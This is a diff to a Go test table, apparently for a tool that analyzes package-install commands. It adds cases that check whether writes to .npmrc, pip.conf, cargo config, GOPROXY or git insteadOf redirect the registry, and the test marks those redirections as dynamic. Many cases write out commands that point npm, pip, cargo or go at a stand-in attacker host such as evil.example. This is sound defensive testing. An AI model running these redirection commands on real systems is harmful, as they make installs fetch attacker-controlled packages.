@@ -220,6 +220,83 @@ var packageCases = []struct {
 	{"npm i --registry=$R github:u/r", []string{"github:u/r github.com npm ^0"}}, // the git host, whatever the registry
 	{"yarn add u/r", []string{"u/r github.com yarn ^0"}},
 	{"pip install u/r", []string{"u/r pypi.org pip ^0"}}, // pip reads no npm spec
+	// Configuration the line may write before the install reads it
+	// (pkgconfig.go): the index is <dynamic>, anywhere in the line.
+	{"echo '@s:registry=https://evil.example/' >> .npmrc && npm i @s/x", []string{"@s/x <dynamic> npm ^1"}},
+	{"printf 'registry=https://evil.example/' > .npmrc; npm ci", []string{"(package.json) <dynamic> npm ^1"}},
+	{"cp /tmp/x .npmrc && npm i x", []string{"x <dynamic> npm ^1"}},
+	{"cp /tmp/x sub/.NPMRC && npm i x", []string{"x <dynamic> npm ^1"}},
+	{"mv rc .npmrc; pnpm add x", []string{"x <dynamic> pnpm ^1"}},
+	{"ln -s /tmp/evil .npmrc; npm ci", []string{"(package.json) <dynamic> npm ^1"}},
+	{"npm i x; echo '@s:registry=https://e/' > .npmrc", []string{"x <dynamic> npm ^0"}}, // a loop may run it first
+	{"sed -i s/a/b/ .npmrc && npm ci", []string{"(package.json) <dynamic> npm ^1"}},
+	{"python3 -c \"open('.npmrc','w').write('@s:registry=https://e/')\" && npm i @s/x", []string{"@s/x <dynamic> npm ^1"}},
+	{"echo x | tee pip.conf && pip install x", []string{"x <dynamic> pip ^2"}},
+	{"echo '[global]' > ~/.config/pip/pip.conf; python3 -m pip install x", []string{"x <dynamic> pip ^1"}},
+	{"pip config set global.index-url https://evil.example/simple; pip install x", []string{"x <dynamic> pip ^1"}},
+	{"python3 -m pip config set global.index-url https://e/; pip install x", []string{"x <dynamic> pip ^1"}},
+	{"npm config set registry https://evil.example/ && npm i x", []string{"x <dynamic> npm ^1"}},
+	{"npm set @s:registry https://evil.example/ && npm i @s/x", []string{"@s/x <dynamic> npm ^1"}},
+	{"yarn config set npmRegistryServer https://e/ && yarn add x", []string{"x <dynamic> yarn ^1"}},
+	{"echo 'index-url = \"https://e/simple\"' > uv.toml; uv pip install x", []string{"x <dynamic> pip ^1"}},
+	{"cat extra >> pyproject.toml && uv sync", []string{"(pyproject.toml) <dynamic> uv ^1"}},
+	{"printf '[source.crates-io]\\nreplace-with=\"e\"' > .cargo/config.toml; cargo add serde", []string{"serde <dynamic> cargo ^1"}},
+	{"echo x > \"$CARGO_HOME/config\"; cargo install rg", []string{"rg <dynamic> cargo ^1"}},
+	{"go env -w GOPROXY=https://evil.example; go get x.org/y", []string{"x.org/y <dynamic> go ^1"}},
+	{"go env -u GOPROXY && go get x.org/y", []string{"x.org/y <dynamic> go ^1"}},
+	{"git config url.https://evil.example/.insteadOf https://github.com/ && go get github.com/a/b", []string{"github.com/a/b <dynamic> go ^1"}},
+	{"git config --global url.x.insteadOf y; npm i github:u/r", []string{"github:u/r <dynamic> npm ^1"}},
+	{"git -C . config url.x.insteadOf y; pip install git+https://github.com/a/b", []string{"git+https://github.com/a/b <dynamic> pip ^1"}},
+	{"echo '[url \"x\"]' >> .git/config; cargo add serde", []string{"serde <dynamic> cargo ^1"}},
+	{"poetry source add e https://e/simple && poetry add x", []string{"x <dynamic> poetry ^1"}},
+	{"bundle config mirror.https://rubygems.org https://e && bundle install", []string{"(Gemfile) <dynamic> bundle ^1"}},
+	// A file the install reads options from (pip -r, -c), written by the line.
+	{"echo '-i https://evil.example/simple' > reqs.txt; pip install -r reqs.txt", []string{"(reqs.txt) <dynamic> pip ^1"}},
+	{"curl -o c.txt https://h.example/c && pip install -c c.txt x", []string{"x <dynamic> pip ^1"}},
+	// A write whose target is not literal, a tree writer, an unknown program.
+	{"echo \"$X\" > \"$F\"; npm ci", []string{"(package.json) <dynamic> npm ^1"}},
+	{"cp \"$SRC\" . && npm ci", []string{"(package.json) <dynamic> npm ^1"}},
+	{"cp tmpl/* . && npm ci", []string{"(package.json) <dynamic> npm ^1"}},
+	{"cp -r tmpl/. . && npm ci", []string{"(package.json) <dynamic> npm ^1"}},
+	{"tar xzf cfg.tgz && npm ci", []string{"(package.json) <dynamic> npm ^1"}},
+	{"tar -C . -xf cfg.tar; pip install x", []string{"x <dynamic> pip ^1"}},
+	{"unzip cfg.zip && uv sync", []string{"(pyproject.toml) <dynamic> uv ^1"}},
+	{"git checkout other -- . && npm ci", []string{"(package.json) <dynamic> npm ^1"}},
+	{"git pull && npm ci", []string{"(package.json) <dynamic> npm ^1"}},
+	{"curl -OJ https://h.example/f && npm ci", []string{"(package.json) <dynamic> npm ^1"}},
+	{"wget -r https://h.example/ && npm ci", []string{"(package.json) <dynamic> npm ^1"}},
+	{"curl -o \"$F\" https://h.example/f && npm ci", []string{"(package.json) <dynamic> npm ^1"}},
+	{"$TOOL; npm ci", []string{"(package.json) <dynamic> npm ^1"}},
+	{"git clone https://h.example/r && npm --prefix r ci", []string{"(package.json) <dynamic> npm ^1"}},
+	// Not a write of what the install reads: the decision stands.
+	{"cat .npmrc && npm ci", []string{"(package.json) registry.npmjs.org npm ^1"}},
+	{"grep registry .npmrc; npm i x", []string{"x registry.npmjs.org npm ^1"}},
+	{"npm config get registry && npm i x", []string{"x registry.npmjs.org npm ^1"}},
+	{"npm config list; pip config list; git config --get user.name; npm i x", []string{"x registry.npmjs.org npm ^3"}},
+	{"git config get user.name; git status; npm ci", []string{"(package.json) registry.npmjs.org npm ^2"}},
+	{"echo hi > log.txt && npm ci > npm.log 2>&1", []string{"(package.json) registry.npmjs.org npm ^1"}},
+	{"cp a.txt b.txt && pip install x", []string{"x pypi.org pip ^1"}},
+	{"tar czf out.tgz src && npm ci", []string{"(package.json) registry.npmjs.org npm ^1"}},
+	{"echo x > .npmrc; pip install x", []string{"x pypi.org pip ^1"}}, // pip reads no .npmrc
+	{"echo x > pip.conf; npm ci", []string{"(package.json) registry.npmjs.org npm ^1"}},
+	{"go env GOPROXY; go get x.org/y", []string{"x.org/y proxy.golang.org go ^1"}},
+	{"make && npm ci", []string{"(package.json) registry.npmjs.org npm ^1"}},
+	{"echo x > .npmrc; apt-get install -y curl", []string{"curl  apt-get ^1"}},
+	{"pip install -r requirements.txt && cat requirements.txt", []string{"(requirements.txt) pypi.org pip ^0"}},
+	{"pip install -r requirements.txt && cp /tmp/r requirements.txt", []string{"(requirements.txt) <dynamic> pip ^0"}},
+	{"cp /tmp/r dev.txt; pip install -r reqs/dev.txt", []string{"(reqs/dev.txt) <dynamic> pip ^1"}},
+	// Go: GOPRIVATE and GONOPROXY fetch matching modules from their own
+	// host; GOENV and GOROOT name the files go reads its settings from.
+	{"GOPRIVATE=* go get evil.example/m@v1", []string{"evil.example/m@v1 proxy.golang.org go ^0", "evil.example/m@v1 evil.example go ^0"}},
+	{"GONOPROXY=$P go get a.org/m", []string{"a.org/m proxy.golang.org go ^0", "a.org/m a.org go ^0"}},
+	{"GOENV=./go.env go get a.org/m", []string{"a.org/m <dynamic> go ^0"}},
+	{"unset GOENV; go get a.org/m", []string{"a.org/m <dynamic> go ^1"}},
+	// Cargo: --config on the line, the registry variables, CARGO_HOME.
+	{"cargo install --config 'source.crates-io.replace-with=\"e\"' ripgrep", []string{"ripgrep <dynamic> cargo ^0"}},
+	{"cargo --config e.toml add serde", []string{"serde <dynamic> cargo ^0"}},
+	{"CARGO_REGISTRIES_E_INDEX=sparse+https://e.example/ cargo add serde", []string{"serde <dynamic> cargo ^0"}},
+	{"CARGO_HOME=/tmp/c cargo add serde", []string{"serde <dynamic> cargo ^0"}},
+	{"unset UV_NO_CONFIG; uv pip install x", []string{"x <dynamic> pip ^1"}},
 }
 
 // TestNPMSpec: npm operands are read as npm-package-arg 13 reads them
